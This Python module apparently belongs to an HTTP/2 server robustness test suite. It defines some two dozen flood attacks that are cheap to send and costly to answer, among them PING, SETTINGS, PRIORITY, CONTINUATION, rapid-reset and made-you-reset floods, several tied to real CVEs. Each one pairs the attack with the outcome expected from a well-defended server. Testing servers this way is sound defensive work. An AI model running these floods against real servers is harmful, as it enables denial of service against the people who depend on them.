"""Frames that are cheap to send and dear to answer."""
import struct

import rawhpack
from corpus import CALM, FLOW, PROTOCOL, RESET, STREAM_CLOSED, attack
from rawh2_wire import Flag, Setting, Type, frame, settings_payload, u32

GROUP = "floods"
PING = frame(Type.PING, 0, 0, b"attacked")
MANY = 500_000


@attack("PING flood, ACKs read", GROUP, CALM, "limit_ping", cve="CVE-2019-9512")
def ping_read(link):
    link.flood(PING, MANY)


@attack("PING flood, ACKs unread", GROUP, CALM, "limit_ping", cve="CVE-2019-9512", reading=False)
def ping_unread(link):
    link.flood(PING, MANY)


@attack("SETTINGS flood, ACKs read", GROUP, CALM, "limit_settings", cve="CVE-2019-9515")
def settings_read(link):
    link.flood(frame(Type.SETTINGS), MANY)


@attack("SETTINGS flood, ACKs unread", GROUP, CALM, "limit_settings", cve="CVE-2019-9515",
        reading=False)
def settings_unread(link):
    link.flood(frame(Type.SETTINGS), MANY)


@attack("SETTINGS of many entries", GROUP, (CALM, PROTOCOL))
def settings_wide(link):
    pairs = [(Setting.INITIAL_WINDOW_SIZE, 65535)] * 2000
    link.flood(frame(Type.SETTINGS, 0, 0, settings_payload(pairs)), 2000)


@attack("SETTINGS that swing the window over 100 held streams", GROUP, CALM, "limit_settings")
def settings_swing(link):
    small = settings_payload([(Setting.INITIAL_WINDOW_SIZE, 0)])
    large = settings_payload([(Setting.INITIAL_WINDOW_SIZE, 1)])
    link.frame(Type.SETTINGS, 0, 0, small)
    for stream in range(1, 201, 2):
        link.send(link.request(stream, link.site.big))
    link.flood(frame(Type.SETTINGS, 0, 0, large) + frame(Type.SETTINGS, 0, 0, small), MANY // 2, 2)


@attack("empty DATA", GROUP, CALM, "limit_empty_data", cve="CVE-2019-9518")
def empty_data(link):
    link.send(link.request(1, b"/", b"POST", end=False))
    link.flood(frame(Type.DATA, 0, 1), MANY)


@attack("DATA of padding alone", GROUP, (RESET, CALM))
def padded_data(link):
    link.send(link.request(1, b"/", b"POST", end=False))
    link.flood(frame(Type.DATA, Flag.PADDED, 1, bytes([0])), MANY)


@attack("PRIORITY flood", GROUP, CALM, "limit_priority", cve="CVE-2019-9513")
def priority(link):
    link.flood(frame(Type.PRIORITY, 0, 1, u32(0) + b"\x10"), 200_000)


@attack("PRIORITY of ever new streams", GROUP, CALM, "limit_priority", cve="CVE-2019-9513")
def priority_idle(link):
    for base in range(1, 200_000, 2000):
        link.send(b"".join(frame(Type.PRIORITY, 0, stream, u32(0) + b"\x10")
                           for stream in range(base, base + 2000, 2)), 1000)


@attack("PRIORITY_UPDATE flood", GROUP, CALM, "limit_priority")
def priority_update(link):
    link.send(link.request(1, link.site.big))
    link.flood(frame(Type.PRIORITY_UPDATE, 0, 0, u32(1) + b"u=1"), 200_000)


@attack("WINDOW_UPDATE flood, connection", GROUP, CALM, "limit_window_update")
def window_connection(link):
    link.flood(frame(Type.WINDOW_UPDATE, 0, 0, u32(1)), MANY)


@attack("WINDOW_UPDATE flood, stream", GROUP, CALM, "limit_window_update",
        settings={Setting.INITIAL_WINDOW_SIZE: 0})
def window_stream(link):
    link.send(link.request(1, link.site.big))
    link.flood(frame(Type.WINDOW_UPDATE, 0, 1, u32(1)), MANY)


@attack("empty CONTINUATION", GROUP, CALM, "limit_continuation", cve="CVE-2024-28182")
def empty_continuation(link):
    link.frame(Type.HEADERS, Flag.END_STREAM, 1, link.block())
    link.flood(frame(Type.CONTINUATION, 0, 1), MANY)


@attack("CONTINUATION without end", GROUP, CALM, "limit_continuation", cve="CVE-2024-27316")
def endless_continuation(link):
    link.frame(Type.HEADERS, Flag.END_STREAM, 1, link.block())
    field = rawhpack.literal("x-more", "y" * 1000)
    link.flood(frame(Type.CONTINUATION, 0, 1, field * 4), 20_000)


@attack("unknown frame types", GROUP, CALM, "limit_unknown")
def unknown(link):
    link.flood(b"".join(frame(type_, 0, 0, b"x" * 9) for type_ in range(0x20, 0x60)), 8_000, 64)


@attack("rapid reset", GROUP, CALM, "limit_reset", cve="CVE-2023-44487")
def rapid_reset(link):
    block = link.block(link.site.big)
    for base in range(1, 400_001, 200):
        link.send(b"".join(
            frame(Type.HEADERS, Flag.END_STREAM | Flag.END_HEADERS, stream, block)
            + frame(Type.RST_STREAM, 0, stream, u32(8)) for stream in range(base, base + 200, 2)),
            200)


@attack("rapid reset of streams answered first", GROUP, CALM, "limit_reset", cve="CVE-2023-44487")
def reset_after_headers(link):
    for stream in range(1, 20_001, 2):
        before = link.received[Type.HEADERS]
        link.send(link.request(stream, link.site.big))
        link.read_for(1, lambda: link.received[Type.HEADERS] > before)
        link.frame(Type.RST_STREAM, 0, stream, u32(8))


@attack("rapid reset below the open streams' limit, page by page", GROUP, CALM, "limit_reset")
def reset_pages(link):
    block = link.block(b"/")
    for stream in range(1, 200_001, 2):
        link.send(frame(Type.HEADERS, Flag.END_STREAM | Flag.END_HEADERS, stream, block)
                  + frame(Type.RST_STREAM, 0, stream, u32(8)), 2)


def _made_you_reset(link, offence):
    """Streams with work under way that the server itself must reset (CVE-2025-8671)."""
    for base in range(1, 100_001, 40):
        link.send(b"".join(link.request(stream, link.site.big, end=True) + offence(stream)
                           for stream in range(base, base + 40, 2)), 40)


@attack("made to reset: window overflow", GROUP, (FLOW, CALM, PROTOCOL),
        cve="CVE-2025-8671")
def made_overflow(link):
    _made_you_reset(link, lambda stream: frame(Type.WINDOW_UPDATE, 0, stream, u32(2**31 - 1)))


@attack("made to reset: zero increment", GROUP, (CALM, PROTOCOL), cve="CVE-2025-8671")
def made_zero(link):
    _made_you_reset(link, lambda stream: frame(Type.WINDOW_UPDATE, 0, stream, u32(0)))


@attack("made to reset: DATA on half-closed", GROUP, (CALM, STREAM_CLOSED), cve="CVE-2025-8671")
def made_data(link):
    _made_you_reset(link, lambda stream: frame(Type.DATA, 0, stream, b"x"))


@attack("made to reset: HEADERS on half-closed", GROUP, (CALM, STREAM_CLOSED),
        cve="CVE-2025-8671")
def made_headers(link):
    _made_you_reset(link, lambda stream: frame(
        Type.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, stream, rawhpack.literal("a", "b")))


@attack("made to reset: PRIORITY of a wrong size", GROUP, (CALM, "GOAWAY FRAME_SIZE_ERROR"),
        cve="CVE-2025-8671")
def made_priority(link):
    _made_you_reset(link, lambda stream: frame(Type.PRIORITY, 0, stream, u32(0)))


@attack("made to reset: malformed requests", GROUP, CALM, "limit_server_reset",
        cve="CVE-2025-8671")
def made_malformed(link):
    bad = rawhpack.literal("Connection", "close")
    for base in range(1, 100_001, 40):
        link.send(b"".join(link.request(stream, extra=bad)
                           for stream in range(base, base + 40, 2)), 20)
        link.read_for(2, lambda: link.answered() > base // 2)


@attack("SETTINGS that overflow every window", GROUP, (FLOW, CALM))
def settings_overflow(link):
    for stream in range(1, 201, 2):
        link.send(link.request(stream, link.site.big)
                  + frame(Type.WINDOW_UPDATE, 0, stream, u32(2**30)), 2)
    for _ in range(10_000):
        link.frame(Type.SETTINGS, 0, 0,
                   settings_payload([(Setting.INITIAL_WINDOW_SIZE, 2**31 - 1)]))


@attack("GOAWAY storm", GROUP, (CALM, "GOAWAY NO_ERROR", "closed"))
def goaway_storm(link):
    link.flood(frame(Type.GOAWAY, 0, 0, struct.pack(">LL", 0, 0) + b"go away"), MANY)


@attack("a little of everything", GROUP, CALM, "limit_misbehaviour")
def mixture(link):
    """Each kind of frame below its own limit."""
    link.send(link.request(1, b"/", b"POST", end=False))
    unit = (PING * 8 + frame(Type.SETTINGS) * 4 + frame(Type.PRIORITY, 0, 3, u32(0) + b"\x10") * 4
            + frame(Type.WINDOW_UPDATE, 0, 0, u32(1)) * 40 + frame(Type.DATA, 0, 1, b"x")
            + frame(Type.DATA, 0, 1) * 5 + frame(0x42, 0, 0, b"?") * 20)
    for _ in range(200):
        link.send(unit, 82)
        link.read_for(0.1)
